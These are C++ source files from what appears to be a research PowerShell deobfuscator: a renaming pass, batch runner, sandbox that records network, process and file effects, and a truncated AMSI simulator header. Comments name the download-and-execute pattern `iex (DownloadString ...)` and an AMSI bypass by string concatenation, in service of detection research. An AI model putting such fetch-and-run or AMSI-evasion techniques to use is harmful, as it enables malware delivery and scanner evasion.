  static const char* kAuto[] = {
      "_",      "args",   "input",  "true",    "false",  "null",
      "pshome", "shellid", "home",  "pwd",     "matches", "error",
      "ofs",    "verbosepreference", "warningpreference", "debugpreference",
      "erroractionpreference",      "psversiontable",    "executioncontext",
      "myinvocation", "host", "profile", "lastexitcode", "psitem",
      "psscriptroot", "psboundparameters", "psculture", "pid"};
  for (const char* a : kAuto) {
    if (lower == a) return true;
  }
  return false;
}

/// Case-insensitive replacement of `$name` references inside an expandable
/// string's raw text.
std::string replace_in_expandable(std::string_view text,
                                  const std::map<std::string, std::string>& vars) {
  std::string out;
  std::size_t i = 0;
  while (i < text.size()) {
    if (text[i] == '`' && i + 1 < text.size()) {
      out += text.substr(i, 2);
      i += 2;
      continue;
    }
    if (text[i] == '$' && i + 1 < text.size() &&
        (std::isalpha(static_cast<unsigned char>(text[i + 1])) ||
         text[i + 1] == '_')) {
      std::size_t j = i + 1;
      while (j < text.size() && (std::isalnum(static_cast<unsigned char>(text[j])) ||
                                 text[j] == '_')) {
        ++j;
      }
      const std::string name = ps::to_lower(text.substr(i + 1, j - i - 1));
      auto it = vars.find(name);
      if (it != vars.end()) {
        out += "$" + it->second;
        i = j;
        continue;
      }
    }
    out.push_back(text[i]);
    ++i;
  }
  return out;
}

}  // namespace

std::string rename_pass(std::string_view script, RenameStats* stats,
                        TraceSink* trace) {
  bool ok = true;
  ps::TokenStream tokens = ps::tokenize_lenient(script, ok);
  if (!ok) return std::string(script);

  // ---- collect candidate names in order of first appearance ----
  std::vector<std::string> var_order;   // lowercase
  std::vector<std::string> func_order;  // lowercase
  std::map<std::string, std::string> originals;

  bool expect_function_name = false;
  for (const Token& t : tokens) {
    if (t.type == TokenType::Comment || t.type == TokenType::NewLine ||
        t.type == TokenType::LineContinuation) {
      continue;
    }
    if (t.type == TokenType::Keyword &&
        (t.content == "function" || t.content == "filter")) {
      expect_function_name = true;
      continue;
    }
    if (expect_function_name) {
      expect_function_name = false;
      const std::string lower = ps::to_lower(t.content);
      if (!lower.empty() &&
          std::find(func_order.begin(), func_order.end(), lower) ==
              func_order.end()) {
        func_order.push_back(lower);
        originals[lower] = t.content;
      }
      continue;
    }
    if (t.type == TokenType::Variable) {
      if (t.content.find(':') != std::string::npos) continue;  // scoped/env
      const std::string lower = ps::to_lower(t.content);
      if (lower.empty() || is_automatic_variable(lower)) continue;
      if (std::find(var_order.begin(), var_order.end(), lower) ==
          var_order.end()) {
        var_order.push_back(lower);
        originals[lower] = t.content;
      }
    }
  }

  if (var_order.empty() && func_order.empty()) return std::string(script);

  // ---- the paper's joint randomness decision ----
  std::vector<std::string> unique_names;
  for (const auto& n : var_order) unique_names.push_back(originals[n]);
  for (const auto& n : func_order) unique_names.push_back(originals[n]);
  if (!names_look_random(unique_names)) return std::string(script);

  std::map<std::string, std::string> var_map;
  std::map<std::string, std::string> func_map;
  for (std::size_t i = 0; i < var_order.size(); ++i) {
    var_map[var_order[i]] = "var" + std::to_string(i);
    if (trace != nullptr) {
      trace->emit({TraceEvent::Kind::Renamed, 0, "$" + originals[var_order[i]],
                   "$var" + std::to_string(i), trace->pass()});
    }
  }
  for (std::size_t i = 0; i < func_order.size(); ++i) {
    func_map[func_order[i]] = "func" + std::to_string(i);
    if (trace != nullptr) {
      trace->emit({TraceEvent::Kind::Renamed, 0, originals[func_order[i]],
                   "func" + std::to_string(i), trace->pass()});
    }
  }

  RenameStats local;
  local.renamed = true;
  local.variables_renamed = static_cast<int>(var_order.size());
  local.functions_renamed = static_cast<int>(func_order.size());

  // ---- apply, in reverse order so extents stay valid ----
  std::string out(script);
  bool expecting_fn = false;
  // Precompute which token indexes are function-name positions.
  std::vector<bool> is_fn_name(tokens.size(), false);
  for (std::size_t i = 0; i < tokens.size(); ++i) {
    const Token& t = tokens[i];
    if (t.type == TokenType::Comment || t.type == TokenType::NewLine ||
        t.type == TokenType::LineContinuation) {
      continue;
    }
    if (expecting_fn) {
      is_fn_name[i] = true;
      expecting_fn = false;
      continue;
    }
    if (t.type == TokenType::Keyword &&
        (t.content == "function" || t.content == "filter")) {
      expecting_fn = true;
    }
  }

  for (std::size_t ri = tokens.size(); ri-- > 0;) {
    const Token& t = tokens[ri];
    if (t.type == TokenType::Variable) {
      if (t.content.find(':') != std::string::npos) continue;
      auto it = var_map.find(ps::to_lower(t.content));
      if (it != var_map.end()) {
        out.replace(t.start, t.length, "$" + it->second);
      }
      continue;
    }
    if (is_fn_name[ri]) {
      auto it = func_map.find(ps::to_lower(t.content));
      if (it != func_map.end()) out.replace(t.start, t.length, it->second);
      continue;
    }
    if (t.type == TokenType::Command || t.type == TokenType::CommandArgument ||
        (t.type == TokenType::String && t.quote == ps::QuoteKind::None)) {
      auto it = func_map.find(ps::to_lower(t.content));
      if (it != func_map.end()) {
        out.replace(t.start, t.length, it->second);
      }
      continue;
    }
    if (t.type == TokenType::String && t.expandable) {
      const std::string inner = replace_in_expandable(t.content, var_map);
      if (inner != t.content) {
        // Rebuild the full quoted token around the new inner text.
        const char open = t.text.size() >= 2 && t.text[0] == '@' ? '@' : '"';
        if (open == '"') {
          out.replace(t.start, t.length, "\"" + inner + "\"");
        }
        // Here-strings keep their original text (rare; conservatively skip).
      }
      continue;
    }
  }

  if (stats != nullptr) *stats = local;
  return out;
}

}  // namespace ideobf
