#include "core/failure.h"

#include "core/fault.h"
#include "psast/parser.h"
#include "psinterp/interpreter.h"

namespace ideobf {

std::pair<ps::FailureKind, std::string> classify_current_exception() {
  try {
    throw;
  } catch (const ps::BudgetError& e) {
    return {e.kind, e.what()};
  } catch (const ps::LimitError& e) {
    return {e.kind, e.what()};
  } catch (const ps::BlockedCommandError& e) {
    return {ps::FailureKind::BlockedCommand, e.what()};
  } catch (const ps::ParseError& e) {
    return {ps::FailureKind::ParseError, e.what()};
  } catch (const ps::EvalError& e) {
    return {ps::FailureKind::EvalError, e.what()};
  } catch (const FaultError& e) {
    return {ps::FailureKind::Internal, e.what()};
  } catch (const std::exception& e) {
    return {ps::FailureKind::Internal, e.what()};
  } catch (...) {
    return {ps::FailureKind::Internal, "non-standard exception"};
  }
}

}  // namespace ideobf
