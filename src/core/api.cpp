#include "ideobf/api.h"

#include <chrono>
#include <optional>
#include <utility>

#include "core/batch.h"
#include "core/deobfuscator.h"
#include "core/failure.h"

namespace ideobf {

namespace {

using clock_t_ = std::chrono::steady_clock;

/// Whether this request needs its own pipeline configuration (a temporary
/// deobfuscator), as opposed to just a per-call envelope override. Deadline
/// overrides ride the envelope; a trace switch or a full options object do
/// not.
bool needs_pipeline_override(const Request& request, const Options& base) {
  if (request.options.has_value()) return true;
  return request.trace && !base.telemetry.collect_trace;
}

/// The options this request effectively runs under.
Options resolve_options(const Request& request, const Options& base) {
  Options options = request.options.has_value() ? *request.options : base;
  if (request.trace) options.telemetry.collect_trace = true;
  if (request.deadline_ms != 0) {
    options.limits.deadline_seconds =
        static_cast<double>(request.deadline_ms) / 1000.0;
  }
  return options;
}

}  // namespace

struct Engine::Impl {
  explicit Impl(Options opts)
      : options(std::move(opts)), deobf(options) {}
  Options options;
  InvokeDeobfuscator deobf;
};

struct Engine::Session::Impl {
  std::shared_ptr<const Engine::Impl> engine;
  /// Session-private memo, used only when the engine-global one is opted out
  /// (recovery.memo without recovery.share_memo): pieces then stay memoized
  /// within this session but are never shared across sessions.
  RecoveryMemo memo;

  /// The memo this session's calls should pass to the engine: null defers to
  /// the engine-global memo (or a per-run one when memoization is off).
  RecoveryMemo* session_memo() {
    const Options& options = engine->options;
    return options.recovery.memo && !options.recovery.share_memo ? &memo
                                                                 : nullptr;
  }
};

namespace {

/// The one code path every entry point funnels through: resolves the
/// request's effective options/envelope, runs the pipeline (through a
/// temporary deobfuscator sharing the base parse cache when the request
/// overrides pipeline options), and seals exceptions — a hostile input
/// degrades its own response, it never throws.
Response handle_one(const Options& base, const InvokeDeobfuscator& deobf,
                    const Request& request, RecoveryMemo* memo,
                    const Options::Limits* envelope = nullptr) {
  Response response;
  response.id = request.id;
  const auto start = clock_t_::now();

  const InvokeDeobfuscator* engine = &deobf;
  std::optional<InvokeDeobfuscator> custom;
  Options::Limits limits = base.limits;
  if (needs_pipeline_override(request, base)) {
    Options options = resolve_options(request, base);
    if (options.parse_cache && options.shared_parse_cache == nullptr) {
      options.shared_parse_cache = deobf.parse_cache();
    }
    limits = options.limits;
    custom.emplace(std::move(options));
    engine = &*custom;
  } else if (request.deadline_ms != 0) {
    limits.deadline_seconds =
        static_cast<double>(request.deadline_ms) / 1000.0;
  }
  // An explicit envelope (the server's per-request deadline + disconnect
  // cancellation token) wholesale replaces whatever was computed above.
  if (envelope != nullptr) limits = *envelope;

  response.language =
      std::string(engine->resolve_language(request.language, request.source));
  bool sealed = false;
  try {
    response.result = engine->deobfuscate(request.source, response.report,
                                          limits, memo, request.language);
  } catch (...) {
    // Ungoverned calls (no active envelope) can propagate pipeline
    // exceptions; the API contract is total, so seal them here exactly like
    // a batch worker does.
    auto [kind, detail] = classify_current_exception();
    sealed = true;
    response.result = request.source;
    response.report = DeobfuscationReport{};
    response.report.failure = kind;
    response.report.failure_detail = std::move(detail);
    response.report.degradation_rung = limits.active() ? 3 : 0;
  }
  response.failure = response.report.failure;
  response.failure_detail = response.report.failure_detail;
  response.ok = !sealed && response.report.degradation_rung < 3;
  response.seconds =
      std::chrono::duration<double>(clock_t_::now() - start).count();
  return response;
}

}  // namespace

Engine::Engine(Options options)
    : impl_(std::make_shared<const Impl>(std::move(options))) {}
Engine::~Engine() = default;
Engine::Engine(Engine&&) noexcept = default;
Engine& Engine::operator=(Engine&&) noexcept = default;

const Options& Engine::options() const { return impl_->options; }

Response Engine::handle(const Request& request) const {
  return handle_one(impl_->options, impl_->deobf, request, nullptr);
}

Response Engine::handle(const Request& request,
                        const Options::Limits& limits) const {
  return handle_one(impl_->options, impl_->deobf, request, nullptr, &limits);
}

std::vector<Response> Engine::handle_batch(
    const std::vector<Request>& requests) const {
  // Per-request resolved options need stable storage for the batch's
  // lifetime; only requests that actually override pipeline options use
  // their slot.
  std::vector<Options> overrides(requests.size());
  std::vector<BatchItemSpec> specs(requests.size());
  for (std::size_t i = 0; i < requests.size(); ++i) {
    const Request& request = requests[i];
    specs[i].source = request.source;
    specs[i].language = request.language;
    if (needs_pipeline_override(request, impl_->options)) {
      overrides[i] = resolve_options(request, impl_->options);
      specs[i].options_override = &overrides[i];
      specs[i].limits = overrides[i].limits;
    } else {
      specs[i].limits = impl_->options.limits;
      if (request.deadline_ms != 0) {
        specs[i].limits.deadline_seconds =
            static_cast<double>(request.deadline_ms) / 1000.0;
      }
    }
  }

  BatchReport batch_report;
  std::vector<DeobfuscationReport> reports;
  std::vector<std::string> outputs = deobfuscate_batch_items(
      impl_->deobf, specs, batch_report, impl_->options, &reports);

  std::vector<Response> responses(requests.size());
  for (std::size_t i = 0; i < requests.size(); ++i) {
    Response& response = responses[i];
    const BatchItem& item = batch_report.items[i];
    response.id = requests[i].id;
    response.language = std::string(impl_->deobf.resolve_language(
        requests[i].language, requests[i].source));
    response.result = std::move(outputs[i]);
    response.report = std::move(reports[i]);
    response.failure = response.report.failure;
    response.failure_detail = response.report.failure_detail;
    response.ok = item.ok;
    response.seconds = item.seconds;
  }
  return responses;
}

Engine::Session Engine::session() const {
  auto impl = std::make_unique<Session::Impl>();
  impl->engine = impl_;
  return Session(std::move(impl));
}

Engine::Session::Session(std::unique_ptr<Impl> impl) : impl_(std::move(impl)) {}
Engine::Session::~Session() = default;
Engine::Session::Session(Session&&) noexcept = default;
Engine::Session& Engine::Session::operator=(Session&&) noexcept = default;

Response Engine::Session::handle(const Request& request) {
  const Engine::Impl& engine = *impl_->engine;
  return handle_one(engine.options, engine.deobf, request,
                    impl_->session_memo());
}

Response Engine::Session::handle(const Request& request,
                                 const Options::Limits& limits) {
  const Engine::Impl& engine = *impl_->engine;
  return handle_one(engine.options, engine.deobf, request,
                    impl_->session_memo(), &limits);
}

}  // namespace ideobf
