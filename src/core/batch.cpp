#include "core/batch.h"

#include <atomic>
#include <thread>

namespace ideobf {

std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           unsigned threads) {
  if (threads == 0) threads = std::max(1u, std::thread::hardware_concurrency());
  threads = std::min<unsigned>(threads, scripts.empty() ? 1u : scripts.size());

  std::vector<std::string> results(scripts.size());
  std::atomic<std::size_t> next{0};

  auto worker = [&]() {
    while (true) {
      const std::size_t i = next.fetch_add(1);
      if (i >= scripts.size()) break;
      try {
        results[i] = deobf.deobfuscate(scripts[i]);
      } catch (...) {
        results[i] = scripts[i];
      }
    }
  };

  if (threads == 1) {
    worker();
    return results;
  }
  std::vector<std::thread> pool;
  pool.reserve(threads);
  for (unsigned t = 0; t < threads; ++t) pool.emplace_back(worker);
  for (auto& th : pool) th.join();
  return results;
}

}  // namespace ideobf
