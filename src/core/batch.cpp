#include "core/batch.h"

#include <atomic>
#include <chrono>
#include <thread>

namespace ideobf {

int BatchReport::failed() const {
  int n = 0;
  for (const BatchItem& it : items) {
    if (!it.ok) ++n;
  }
  return n;
}

int BatchReport::changed() const {
  int n = 0;
  for (const BatchItem& it : items) {
    if (it.changed) ++n;
  }
  return n;
}

std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           BatchReport& report,
                                           unsigned threads) {
  using clock = std::chrono::steady_clock;
  if (threads == 0) threads = std::max(1u, std::thread::hardware_concurrency());
  threads = std::min<unsigned>(threads, scripts.empty() ? 1u : scripts.size());

  std::vector<std::string> results(scripts.size());
  report.items.assign(scripts.size(), BatchItem{});
  std::atomic<std::size_t> next{0};
  const auto batch_start = clock::now();

  auto worker = [&]() {
    while (true) {
      const std::size_t i = next.fetch_add(1);
      if (i >= scripts.size()) break;
      BatchItem& item = report.items[i];
      const auto start = clock::now();
      try {
        results[i] = deobf.deobfuscate(scripts[i]);
        item.ok = true;
      } catch (const std::exception& e) {
        results[i] = scripts[i];
        item.error = e.what();
      } catch (...) {
        results[i] = scripts[i];
        item.error = "unknown exception";
      }
      item.seconds = std::chrono::duration<double>(clock::now() - start).count();
      item.changed = results[i] != scripts[i];
    }
  };

  if (threads == 1) {
    worker();
  } else {
    std::vector<std::thread> pool;
    pool.reserve(threads);
    for (unsigned t = 0; t < threads; ++t) pool.emplace_back(worker);
    for (auto& th : pool) th.join();
  }
  report.wall_seconds =
      std::chrono::duration<double>(clock::now() - batch_start).count();
  return results;
}

std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           unsigned threads) {
  BatchReport report;
  return deobfuscate_batch(deobf, scripts, report, threads);
}

}  // namespace ideobf
