#include "core/batch.h"

#include <atomic>
#include <chrono>
#include <optional>
#include <thread>

#include "psvalue/worker_pool.h"

namespace ideobf {

namespace {

using clock_t_ = std::chrono::steady_clock;

/// Watchdog view of one in-flight item. `start` is written before the
/// release-store to `running`, so the watchdog's acquire-load sees a
/// coherent start time; the token itself is created up front (before any
/// worker starts) and never reassigned, so it needs no synchronization.
struct ItemState {
  std::atomic<bool> running{false};
  clock_t_::time_point start{};
};

telemetry::Counter& batch_item_counter() {
  static auto& c = telemetry::registry().counter("ideobf_batch_item_total");
  return c;
}
telemetry::Counter& batch_item_failed_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_batch_item_failed_total");
  return c;
}
telemetry::Counter& batch_item_degraded_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_batch_item_degraded_total");
  return c;
}
telemetry::Counter& watchdog_cancel_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_watchdog_cancel_total");
  return c;
}

}  // namespace

int BatchReport::failed() const {
  int n = 0;
  for (const BatchItem& it : items) {
    if (!it.ok) ++n;
  }
  return n;
}

int BatchReport::changed() const {
  int n = 0;
  for (const BatchItem& it : items) {
    if (it.changed) ++n;
  }
  return n;
}

int BatchReport::failures() const {
  int n = 0;
  for (const BatchItem& it : items) {
    if (it.failure != ps::FailureKind::None) ++n;
  }
  return n;
}

int BatchReport::degraded() const {
  int n = 0;
  for (const BatchItem& it : items) {
    if (it.degradation_rung > 0) ++n;
  }
  return n;
}

std::vector<std::string> deobfuscate_batch_items(
    const InvokeDeobfuscator& deobf, const std::vector<BatchItemSpec>& items,
    BatchReport& report, const Options& batch_options,
    std::vector<DeobfuscationReport>* item_reports) {
  unsigned threads = batch_options.threads;
  if (threads == 0) threads = std::max(1u, std::thread::hardware_concurrency());
  threads = std::min<unsigned>(threads, items.empty() ? 1u : items.size());

  std::vector<std::string> results(items.size());
  report.items.assign(items.size(), BatchItem{});
  if (item_reports != nullptr) {
    item_reports->assign(items.size(), DeobfuscationReport{});
  }
  const auto batch_start = clock_t_::now();

  const ps::CancellationToken& batch_cancel = batch_options.limits.cancel;
  // Whether any item needs watchdog/token machinery at all.
  bool governed = false;
  for (const BatchItemSpec& spec : items) {
    if (spec.limits.active()) {
      governed = true;
      break;
    }
  }

  // Per-item cancellation tokens, created before any executor starts so the
  // watchdog can read them without synchronization. Every governed item gets
  // its own token; the item's external token (if any) and the batch-wide
  // token are *propagated* onto it by the watchdog, so the running pipeline
  // only ever watches one flag.
  std::vector<ps::CancellationToken> tokens;
  std::vector<ItemState> states(governed ? items.size() : 0);
  if (governed) {
    tokens.reserve(items.size());
    for (std::size_t i = 0; i < items.size(); ++i) {
      tokens.push_back(items[i].limits.active() ? ps::CancellationToken::make()
                                                : ps::CancellationToken{});
    }
  }

  // Piece-execution memoization is the engine's: when share_memo is on the
  // deobfuscator owns one thread-safe content-addressed memo shared by every
  // slot (a piece recovered on slot 0 is a hit on slot 3), so the batch
  // passes no memo of its own.

  // Per-slot phase-profile partials, merged into report.profile after the
  // pool drains (slot-exclusive during the job, so no locking).
  std::vector<telemetry::PipelineProfile> profiles(threads);

  // Sealed body: nothing an item does — including non-std throws from
  // injected faults — may escape into the pool (whose contract is that
  // bodies do not throw) or take down the process.
  auto body = [&](std::size_t i, unsigned slot) {
    // Bind this executor to its slot's metric shard (and trace lane): slots
    // are staffed by one thread per job, so shard cells stay uncontended.
    telemetry::set_current_shard(slot);
    const BatchItemSpec& spec = items[i];
    const bool item_governed = spec.limits.active();
    BatchItem& item = report.items[i];
    DeobfuscationReport local_rep;
    DeobfuscationReport& rep =
        item_reports != nullptr ? (*item_reports)[i] : local_rep;
    const auto start = clock_t_::now();
    // External cancellation drains the queue fast: remaining items are
    // served as classified passthrough, not silently dropped.
    if (batch_cancel.cancelled() || spec.limits.cancel.cancelled()) {
      results[i] = std::string(spec.source);
      item.failure = ps::FailureKind::Cancelled;
      item.degradation_rung = 3;
      item.error = std::string(kCancelledDetail);
      rep.failure = ps::FailureKind::Cancelled;
      rep.failure_detail = std::string(kCancelledDetail);
      rep.degradation_rung = 3;
      return;
    }
    if (item_governed) {
      states[i].start = start;
      states[i].running.store(true, std::memory_order_release);
    }
    try {
      // Effective envelope: the item's own, with the internal token swapped
      // in (the watchdog propagates external cancellation onto it). An
      // inactive envelope falls back to the deobfuscator's configured one —
      // the pre-governor behavior.
      Options::Limits lim =
          item_governed ? spec.limits : deobf.options().limits;
      if (item_governed) lim.cancel = tokens[i];
      // Per-item pipeline override: a temporary deobfuscator sharing the
      // base parse cache, so cross-request parse reuse survives the
      // override.
      std::optional<InvokeDeobfuscator> custom;
      const InvokeDeobfuscator* engine = &deobf;
      if (spec.options_override != nullptr) {
        Options o = *spec.options_override;
        if (o.parse_cache && o.shared_parse_cache == nullptr) {
          o.shared_parse_cache = deobf.parse_cache();
        }
        custom.emplace(std::move(o));
        engine = &*custom;
      }
      results[i] =
          engine->deobfuscate(spec.source, rep, lim, nullptr, spec.language);
      profiles[slot].merge(rep.profile);
      item.degradation_rung = rep.degradation_rung;
      // Passthrough (rung 3) means no pipeline output was served; count
      // it with the hard failures. Lower rungs served real output.
      item.ok = rep.degradation_rung < 3;
      // A full-strength success is a clean item: per-piece recovery hiccups
      // promoted into rep.failure stay out of the batch's failure counts so
      // failures() agrees with failed() + degraded().
      item.failure = (rep.degradation_rung > 0 || !item.ok)
                         ? rep.failure
                         : ps::FailureKind::None;
      item.worst_piece_failure = rep.recovery.worst_failure;
      if (!item.ok) item.error = rep.failure_detail;
    } catch (const std::exception& e) {
      results[i] = std::string(spec.source);
      item.error = e.what();
      item.failure = ps::FailureKind::Internal;
      item.degradation_rung = item_governed ? 3 : 0;
      rep.failure = ps::FailureKind::Internal;
      rep.failure_detail = item.error;
      rep.degradation_rung = item.degradation_rung;
    } catch (...) {
      results[i] = std::string(spec.source);
      item.error = "non-standard exception";
      item.failure = ps::FailureKind::Internal;
      item.degradation_rung = item_governed ? 3 : 0;
      rep.failure = ps::FailureKind::Internal;
      rep.failure_detail = item.error;
      rep.degradation_rung = item.degradation_rung;
    }
    if (item_governed) states[i].running.store(false, std::memory_order_release);
    item.seconds =
        std::chrono::duration<double>(clock_t_::now() - start).count();
    item.changed = results[i] != spec.source;
    batch_item_counter().add();
    if (!item.ok) batch_item_failed_counter().add();
    if (item.degradation_rung > 0) batch_item_degraded_counter().add();
  };

  {
    // jthread joins on destruction, so the watchdog cannot be leaked
    // running even if this scope unwinds early.
    std::jthread watchdog;
    if (governed) {
      // The deadline x watchdog_factor backstop for items wedged between
      // budget checkpoints, plus propagation of external cancellation
      // (batch-wide and per-item) onto the internal tokens.
      watchdog = std::jthread([&](std::stop_token stop) {
        // Poll fast enough for the tightest per-item deadline in the batch.
        double min_deadline = 0.0;
        for (const BatchItemSpec& spec : items) {
          if (spec.limits.deadline_seconds > 0.0 &&
              (min_deadline == 0.0 ||
               spec.limits.deadline_seconds < min_deadline)) {
            min_deadline = spec.limits.deadline_seconds;
          }
        }
        const auto period = std::chrono::milliseconds(
            min_deadline > 0.0
                ? std::max<long>(1, static_cast<long>(min_deadline * 1000 / 8))
                : 10);
        while (!stop.stop_requested()) {
          std::this_thread::sleep_for(std::min<std::chrono::milliseconds>(
              period, std::chrono::milliseconds(50)));
          const bool all_cancelled = batch_cancel.cancelled();
          const auto now = clock_t_::now();
          for (std::size_t i = 0; i < states.size(); ++i) {
            if (!states[i].running.load(std::memory_order_acquire)) continue;
            if (all_cancelled || items[i].limits.cancel.cancelled()) {
              tokens[i].request_cancel();
              continue;
            }
            const double deadline = items[i].limits.deadline_seconds;
            if (deadline <= 0.0) continue;
            const double limit =
                deadline * std::max(1.0, items[i].limits.watchdog_factor);
            const double elapsed =
                std::chrono::duration<double>(now - states[i].start).count();
            if (elapsed > limit && !tokens[i].cancelled()) {
              tokens[i].request_cancel();
              watchdog_cancel_counter().add();
            }
          }
        }
      });
    }
    // Items run on the process-lifetime work-stealing pool; the calling
    // thread participates, and threads == 1 runs entirely on the caller.
    ps::WorkerPool::instance().parallel(items.size(), threads, body);
    if (watchdog.joinable()) watchdog.request_stop();
  }

  for (const telemetry::PipelineProfile& p : profiles) report.profile.merge(p);
  report.wall_seconds =
      std::chrono::duration<double>(clock_t_::now() - batch_start).count();
  return results;
}

std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           BatchReport& report,
                                           const Options& options) {
  std::vector<BatchItemSpec> specs(scripts.size());
  for (std::size_t i = 0; i < scripts.size(); ++i) {
    specs[i].source = scripts[i];
    specs[i].limits = options.limits;
  }
  return deobfuscate_batch_items(deobf, specs, report, options);
}

std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           BatchReport& report,
                                           unsigned threads) {
  Options options;
  options.threads = threads;
  return deobfuscate_batch(deobf, scripts, report, options);
}

std::vector<std::string> deobfuscate_batch(const InvokeDeobfuscator& deobf,
                                           const std::vector<std::string>& scripts,
                                           unsigned threads) {
  BatchReport report;
  return deobfuscate_batch(deobf, scripts, report, threads);
}

}  // namespace ideobf
