#include "sandbox/sandbox.h"

#include "core/fault.h"
#include "psast/parser.h"
#include "psinterp/interpreter.h"
#include "telemetry/telemetry.h"

namespace ideobf {

namespace {

telemetry::Counter& sandbox_run_counter() {
  static auto& c = telemetry::registry().counter("ideobf_sandbox_run_total");
  return c;
}
telemetry::Counter& sandbox_failure_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_sandbox_failure_total");
  return c;
}

class RecordingRecorder final : public ps::EffectRecorder {
 public:
  RecordingRecorder(BehaviorProfile& profile, const SandboxOptions& options)
      : profile_(profile), options_(options) {}

  void on_network(std::string_view kind, std::string_view detail) override {
    profile_.network.insert(std::string(kind) + ":" + std::string(detail));
    profile_.simulated_seconds += options_.network_cost_seconds / 3.0;
  }
  void on_process(std::string_view command_line) override {
    profile_.processes.emplace_back(command_line);
    profile_.simulated_seconds += options_.process_cost_seconds;
  }
  void on_file(std::string_view op, std::string_view path) override {
    profile_.files.push_back(std::string(op) + ":" + std::string(path));
  }
  void on_sleep(double seconds) override {
    profile_.simulated_seconds += seconds;
  }
  void on_host_output(std::string_view text) override {
    profile_.host_output.emplace_back(text);
  }
  std::string download_content(std::string_view url) override {
    // Deterministic benign stage-2 payload so `iex (DownloadString ...)`
    // behaves identically across runs and across original/deobfuscated
    // variants of the same script.
    return "Write-Output 'stage2:" + std::string(url) + "'";
  }

 private:
  BehaviorProfile& profile_;
  const SandboxOptions& options_;
};

}  // namespace

Sandbox::Sandbox(SandboxOptions options) : options_(options) {}

BehaviorProfile Sandbox::run(std::string_view script) const {
  telemetry::PhaseSpan span(telemetry::Phase::SandboxRun);
  sandbox_run_counter().add();
  BehaviorProfile profile;
  RecordingRecorder recorder(profile, options_);

  ps::Budget budget(ps::Budget::Limits{options_.deadline_seconds,
                                       options_.memory_budget_bytes,
                                       options_.cancel});

  ps::InterpreterOptions opts;
  opts.max_steps = options_.max_steps;
  opts.max_depth = options_.max_depth;
  opts.strict_variables = false;
  opts.refuse_blocklisted = false;
  opts.recorder = &recorder;
  if (budget.active()) opts.budget = &budget;

  ps::Interpreter interp(opts);
  try {
    if (options_.fault_injector != nullptr) {
      options_.fault_injector->inject(FaultSite::SandboxRun);
    }
    interp.evaluate_script(std::string(script));
    profile.executed_ok = true;
  } catch (const ps::BudgetError& e) {
    profile.failure = e.kind;
    profile.error = e.what();
  } catch (const ps::LimitError& e) {
    profile.failure = e.kind;
    profile.error = e.what();
  } catch (const ps::BlockedCommandError& e) {
    profile.failure = ps::FailureKind::BlockedCommand;
    profile.error = e.what();
  } catch (const ps::ParseError& e) {
    profile.failure = ps::FailureKind::ParseError;
    profile.error = e.what();
  } catch (const ps::EvalError& e) {
    profile.failure = ps::FailureKind::EvalError;
    profile.error = e.what();
  } catch (const std::exception& e) {
    profile.failure = ps::FailureKind::Internal;
    profile.error = e.what();
  } catch (...) {
    // A non-std throw (third-party decoder, injected fault) must degrade
    // this run, not unwind through the triage loop — the effects recorded
    // so far are still reported.
    profile.failure = ps::FailureKind::Internal;
    profile.error = "non-standard exception";
  }
  if (!profile.executed_ok) sandbox_failure_counter().add();
  return profile;
}

bool Sandbox::same_network_behavior(const BehaviorProfile& a,
                                    const BehaviorProfile& b) {
  return a.network == b.network;
}

}  // namespace ideobf
