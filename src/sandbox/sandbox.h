#pragma once

/// \file sandbox.h
/// The TianQiong-sandbox substitute (DESIGN.md substitution table): runs a
/// script in the permissive interpreter, records network / process / file
/// side effects, and accounts simulated wall-clock cost for the commands
/// that make the regex-based tools slow in Fig 6 (Start-Sleep, network I/O).

#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "psvalue/budget.h"

namespace ideobf {

class FaultInjector;

/// Everything a script did when executed in the sandbox.
struct BehaviorProfile {
  /// Normalized network events: "dns:host", "tcp:host:port", "http:url".
  std::multiset<std::string> network;
  std::vector<std::string> processes;
  std::vector<std::string> files;  ///< "op:path"
  std::vector<std::string> host_output;
  /// Simulated seconds consumed by sleeps and I/O (not real time).
  double simulated_seconds = 0;
  bool executed_ok = false;
  std::string error;
  /// Why execution stopped (None when executed_ok).
  ps::FailureKind failure = ps::FailureKind::None;

  [[nodiscard]] bool has_network() const { return !network.empty(); }
};

struct SandboxOptions {
  std::size_t max_steps = 2000000;
  std::size_t max_depth = 48;
  /// Simulated cost of one network round trip, seconds.
  double network_cost_seconds = 1.5;
  /// Simulated cost of spawning a process, seconds.
  double process_cost_seconds = 0.4;
  /// Real wall-clock deadline per run; 0 disables. Overruns surface as
  /// failure == Timeout in the profile, never as a thrown exception.
  double deadline_seconds = 0.0;
  /// Cumulative interpreter allocation budget per run; 0 disables.
  std::size_t memory_budget_bytes = 0;
  /// External cancellation; inert by default.
  ps::CancellationToken cancel{};
  /// Optional fault injector arming the SandboxRun site. Non-owning.
  FaultInjector* fault_injector = nullptr;
};

class Sandbox {
 public:
  explicit Sandbox(SandboxOptions options = {});

  /// Executes `script` and returns what it did. Execution failures —
  /// including budget overruns and non-std throws — yield a profile with
  /// executed_ok=false, a classified `failure`, and whatever effects
  /// happened first. Never throws.
  [[nodiscard]] BehaviorProfile run(std::string_view script) const;

  /// The paper's Table IV criterion: identical network event sets.
  static bool same_network_behavior(const BehaviorProfile& a,
                                    const BehaviorProfile& b);

 private:
  SandboxOptions options_;
};

}  // namespace ideobf
