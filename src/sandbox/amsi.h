#pragma once

/// \file amsi.h
/// An AMSI (Antimalware Scan Interface) simulator for the paper's section
/// V-B comparison. AMSI observes every script buffer ultimately supplied to
/// the scripting engine — so it "deobfuscates" exactly the layers that get
/// invoked (Invoke-Expression / powershell -EncodedCommand bodies) and
/// nothing that is never executed, which is the bypass the paper describes
/// ('Amsi'+'Utils'-style concatenations).

#include <string>
#include <string_view>
#include <vector>

namespace ideobf {

struct AmsiCapture {
